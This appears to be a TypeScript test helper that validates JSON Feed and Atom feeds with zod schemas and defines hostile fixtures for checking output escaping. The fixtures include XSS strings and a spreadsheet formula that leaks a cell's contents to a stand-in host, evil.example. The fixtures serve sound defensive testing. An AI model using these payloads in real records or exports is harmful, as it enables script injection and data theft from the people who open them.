import { XMLParser, XMLValidator } from "fast-xml-parser";
import { z } from "zod";

const Rfc3339 = z.iso.datetime({ offset: true });
const AbsoluteUrl = z.url({ protocol: /^https?$/ });

const ZJsonFeedAuthor = z
  .object({ name: z.string().optional(), url: AbsoluteUrl.optional(), avatar: AbsoluteUrl.optional() })
  .refine((author) => author.name ?? author.url ?? author.avatar, "an author needs a name, url or avatar");

const ZJsonFeedItem = z
  .object({
    id: z.string().min(1),
    url: AbsoluteUrl.optional(),
    external_url: AbsoluteUrl.optional(),
    title: z.string().optional(),
    content_html: z.string().optional(),
    content_text: z.string().optional(),
    summary: z.string().optional(),
    image: AbsoluteUrl.optional(),
    banner_image: AbsoluteUrl.optional(),
    date_published: Rfc3339.optional(),
    date_modified: Rfc3339.optional(),
    authors: z.array(ZJsonFeedAuthor).min(1).optional(),
    tags: z.array(z.string()).optional(),
    language: z.string().optional(),
    // Extensions start with an underscore (JSON Feed 1.1, "Extensions").
    _coop: z
      .object({ confidence: z.enum(["CONFIRMED", "REPORTED", "UNVERIFIED"]) })
      .strict()
      .optional(),
  })
  .strict()
  .refine((item) => item.content_html !== undefined || item.content_text !== undefined, "an item needs content_html or content_text");

/** JSON Feed 1.1 (https://www.jsonfeed.org/version/1.1/): required fields and the types of the optional ones used here. */
export const ZJsonFeed = z
  .object({
    version: z.literal("https://jsonfeed.org/version/1.1"),
    title: z.string().min(1),
    home_page_url: AbsoluteUrl.optional(),
    feed_url: AbsoluteUrl.optional(),
    description: z.string().optional(),
    language: z.string().optional(),
    authors: z.array(ZJsonFeedAuthor).min(1).optional(),
    items: z.array(ZJsonFeedItem),
  })
  .strict();

const AtomText = z.union([z.string(), z.object({ "#text": z.string().optional(), "@_type": z.enum(["text", "html", "xhtml"]).optional() })]);
const AtomLink = z.object({ "@_href": z.string().min(1), "@_rel": z.string().optional(), "@_type": z.string().optional() });

const ZAtomEntry = z.object({
  id: z.string().min(1),
  title: AtomText,
  updated: Rfc3339,
  published: Rfc3339.optional(),
  link: z.array(AtomLink).min(1),
  summary: AtomText.optional(),
  category: z.array(z.object({ "@_term": z.string() })).optional(),
  "@_xml:lang": z.string().optional(),
});

/** The RFC 4287 elements a feed must have: id, title, updated, an author (here on the feed) and a self link. */
const ZAtomFeed = z.object({
  feed: z.object({
    "@_xmlns": z.literal("http://www.w3.org/2005/Atom"),
    id: z.string().min(1),
    title: AtomText,
    updated: Rfc3339,
    author: z.object({ name: z.string().min(1) }),
    link: z.array(AtomLink).refine((links) => links.some((link) => link["@_rel"] === "self"), "needs a self link"),
    entry: z.array(ZAtomEntry).default([]),
  }),
});

export type AtomFeed = z.infer<typeof ZAtomFeed>["feed"];

const atomParser = new XMLParser({
  ignoreAttributes: false,
  attributeNamePrefix: "@_",
  parseTagValue: false,
  parseAttributeValue: false,
  htmlEntities: true,
  // Leading tabs and line breaks are part of the text under test.
  trimValues: false,
  isArray: (name) => ["entry", "link", "category"].includes(name),
});

/** Parses an Atom document after checking it is well-formed XML, and checks its Atom structure. */
export function parseAtom(xml: string): AtomFeed {
  const valid = XMLValidator.validate(xml);
  if (valid !== true) throw new Error(`Not well-formed XML: ${valid.err.msg} (line ${valid.err.line})`);
  return ZAtomFeed.parse(atomParser.parse(xml)).feed;
}

/** The text of an Atom text construct, whatever shape the parser gave it. */
export function atomText(node: z.infer<typeof AtomText> | undefined): string {
  return typeof node === "string" ? node : (node?.["#text"] ?? "");
}

/** Record text that must come out inert everywhere: pages, feeds, exports. */
export const HOSTILE = {
  script: "<script>alert(1)</script>",
  image: "<img src=x onerror=alert(1)>",
  javascriptUrl: "javascript:alert(1)",
};

/** Titles a spreadsheet would run as formulas, and others that stress CSV quoting. */
export const SPREADSHEET_HOSTILE_TITLES = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "+1",
  "-2",
  "@SUM(A1:A9)",
  "\tTab-led title",
  "\rCarriage-return-led title",
  'Quotes "inside", and a comma',
  "A title\nover two lines",
  "<script>alert(1)</script>",
];

/** What a spreadsheet-safe CSV cell holds for a title: formula triggers get a leading apostrophe. */
export function neutralised(text: string): string {
  return /^[=+\-@\t\r]/.test(text) ? `'${text}` : text;
}
